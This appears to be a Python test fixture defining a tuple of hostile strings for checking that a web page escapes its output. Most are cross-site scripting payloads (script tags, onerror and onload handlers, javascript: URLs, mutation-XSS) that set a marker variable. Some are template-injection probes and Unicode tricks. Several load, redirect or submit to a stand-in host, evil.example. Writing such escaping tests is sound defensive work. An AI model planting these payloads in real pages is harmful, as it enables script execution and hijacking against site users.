"""Texts that would run, load or break out of something if a page did not escape them."""

from __future__ import annotations

MARK = "__ran"

HOSTILE = (
    f"<script>window.{MARK}=1</script>",
    f"\"><script>window.{MARK}=2</script>",
    f"'><img src=x onerror=window.{MARK}=3>",
    f"<svg/onload=window.{MARK}=4>",
    f"</textarea><script>window.{MARK}=5</script>",
    f"</title><script>window.{MARK}=6</script>",
    f"<iframe srcdoc='<script>parent.{MARK}=7</script>'></iframe>",
    f"<a href=\"javascript:window.{MARK}=8\">x</a>",
    f"javascript:window.{MARK}=9",
    f"<details open ontoggle=window.{MARK}=10>",
    "<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=http://evil.example/y.css>",
    "<img src=http://evil.example/pixel.png><video poster=http://evil.example/p.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<form action=http://evil.example/><button>x</button></form>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror=window.{MARK}=11>",
    f"\u003cscript\u003ewindow.{MARK}=12\u003c/script\u003e",
    f"&lt;script&gt;window.{MARK}=13&lt;/script&gt;",
    "\u202egnp.exe\u202c \u200b\ufeff \u0000 \ud83d\ude00",
    f"' hx-on:click='window.{MARK}=14' hx-get='http://evil.example/",
    "<div hx-get=http://evil.example/ hx-trigger=load>",
    f"]]><script>window.{MARK}=15</script><!--",
)  # fmt: skip
EVERYTHING = " ".join(text.replace("\u0000", "") for text in HOSTILE)
